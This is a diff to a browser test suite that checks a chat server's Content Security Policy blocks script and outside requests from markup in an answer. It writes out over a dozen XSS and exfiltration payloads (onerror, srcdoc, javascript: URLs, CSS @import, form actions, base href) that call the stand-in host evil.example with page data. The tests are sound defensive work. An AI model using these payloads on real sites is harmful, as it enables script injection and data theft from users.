@@ -94,6 +94,12 @@ before(async () => {
   for (const [name, script] of [['_.html', OLDEST], ['websocket.html', SOCKET], ['1.html', STREAM]]) {
     writeFileSync(join(pages, 'templates', name), file(script));
   }
+  for (const part of ['js', 'image']) mkdirSync(join(pages, 'static', part), { recursive: true });
+  writeFileSync(join(pages, 'static/image/own.svg'), '<svg xmlns="http://www.w3.org/2000/svg"/>');
+  writeFileSync(join(pages, 'static/js/own.js'), 'window.own = true');
+  writeFileSync(join(pages, 'static/libraries.html'), `<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,">
+    <link rel="stylesheet" href="https://cdn.example/a.css"><table id="chat"></table><script src="https://cdn.example/lib@3/a.min.js?v=1"></script>
+    <script src="../js/own.js"></script>\r\n<script>\r\nwindow.inline = true\r\n</script>`);
   [browser, weir] = await Promise.all([startBrowser(), startWeir({ tokensPerSecond: 150, settings: { WEIR_CLASSIC_PAGES: pages } })]);
 });
 
@@ -156,20 +162,83 @@ for (const [name, path] of [['a stream and a question', '/'], ['a WebSocket', '/
       await visitor.close();
     });
 
-    test('nothing in an answer runs', async () => {
+    test('nothing in an answer runs, and nothing leaves', async () => {
       const visitor = await visit(path);
       if (path === '/websocket') await visitor.page.waitForFunction(() => window.opened);
-      await visitor.page.evaluate(() => {
-        window.violations = [];
-        document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.violatedDirective));
-        document.getElementById('chat').innerHTML = '<tr><td><img src="data:," onerror="window.ran.push(1)"></td></tr>';
-      });
-      await visitor.page.waitForFunction(() => window.violations.length > 0);
-      assert.deepEqual(await visitor.page.evaluate(() => window.ran), []);
+      const { left, violations } = await tried(visitor.page, [
+        '<img src="data:," onerror="window.ran.push(1)">',
+        '<svg onload="window.ran.push(2)"></svg>',
+        `<iframe srcdoc="<script src='https://evil.example/x.js'></script>"></iframe>`,
+        '<iframe srcdoc="<script>parent.ran.push(3)</script>"></iframe>',
+        `<iframe src="https://evil.example/frame"></iframe>`,
+        '<iframe src="javascript:parent.ran.push(4)"></iframe>',
+        '<img src="https://evil.example/p.png?q=words">',
+        '<video src="https://evil.example/v.mp4" autoplay></video>',
+        '<style>@import "https://evil.example/i.css"; #chat { background: url(https://evil.example/b.png?q=words) }</style>',
+        '<style>@font-face { font-family: f; src: url(https://evil.example/f.woff) } #chat { font-family: f }</style>letters',
+        '<link rel="stylesheet" href="https://evil.example/l.css?q=words">',
+        '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
+        '<a id="run" href="javascript:window.ran.push(5)">a link</a>',
+        '<form id="form" action="https://evil.example/form"><input name="q" value="words"></form>',
+        '<base href="https://evil.example/">',
+      ]);
+      assert.deepEqual([left, await visitor.page.evaluate(() => window.ran)], [[], []]);
+      for (const directive of ['frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'form-action', 'style-src-elem', 'base-uri']) {
+        assert.ok(violations.includes(directive), `${directive} of ${violations}`);
+      }
       await visitor.close();
     });
   });
 }
+
+// Puts markup into the page as an answer is, uses what is in it, and returns what was asked of other servers. A page that is led
+// to another server is one of them.
+async function tried(page, markup) {
+  const left = [];
+  await page.route(/evil\.example/, (route) => {
+    left.push(route.request().url());
+    return route.fulfill({ contentType: 'text/javascript', body: 'window.ran.push(6); parent.ran.push(7)' });
+  });
+  await page.evaluate((markup) => {
+    window.violations = [];
+    document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective));
+    for (const html of markup) chat.insertAdjacentHTML('beforebegin', `<div>${html}</div>`);
+    document.getElementById('run').click();
+    document.getElementById('form').submit();
+    // As jQuery does with the scripts of a text that it is to show.
+    const script = document.createElement('script');
+    script.src = 'https://evil.example/x.js';
+    document.head.append(script);
+    return fetch('https://evil.example/fetch?q=words').then(() => window.ran.push(8), () => {});
+  }, markup);
+  // A picture of the page's own is shown, and the browser has by then refused or asked for what stood before it.
+  await page.evaluate(() => new Promise((done) => Object.assign(new Image(), { onload: done, onerror: done, src: '/image/own.svg' })));
+  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
+  const violations = await page.evaluate(() => window.violations);
+  return { left, violations };
+}
+
+test('a page has its own scripts and styles, and those of elsewhere that it names', async () => {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.route(/cdn\.example/, (route) => route.fulfill(
+    route.request().url().endsWith('css') ? { contentType: 'text/css', body: '#chat { color: rgb(1, 2, 3) }' }
+      : { contentType: 'text/javascript', body: 'window.library = true' }));
+  for (const url of [weir.url, weir.url.replace('127.0.0.1', 'localhost')]) {
+    await page.goto(`${url}/static/libraries.html`);
+    const color = await page.evaluate(() => getComputedStyle(document.getElementById('chat')).color);
+    assert.deepEqual([await page.evaluate(() => [window.library, window.own, window.inline]), color], [[true, true, true], 'rgb(1, 2, 3)']);
+    // The pages have localhost:8000 written into them.
+    const { port } = new URL(url);
+    assert.equal(await page.evaluate((port) => new Promise((done) => {
+      const socket = new WebSocket(`ws://localhost:${port}/websocket/7`);
+      socket.onopen = () => { socket.close(); done('open'); };
+      socket.onerror = () => done('error');
+    }), port), 'open');
+    assert.equal(await page.evaluate((port) => fetch(`http://localhost:${port}/closeSse`, { headers: { uid: '7' } }).then((r) => r.status), port), 200);
+  }
+  await context.close();
+});
 
 test('a stream that was told everything is not asked for again', async () => {
   const visitor = await visit('/_.html');
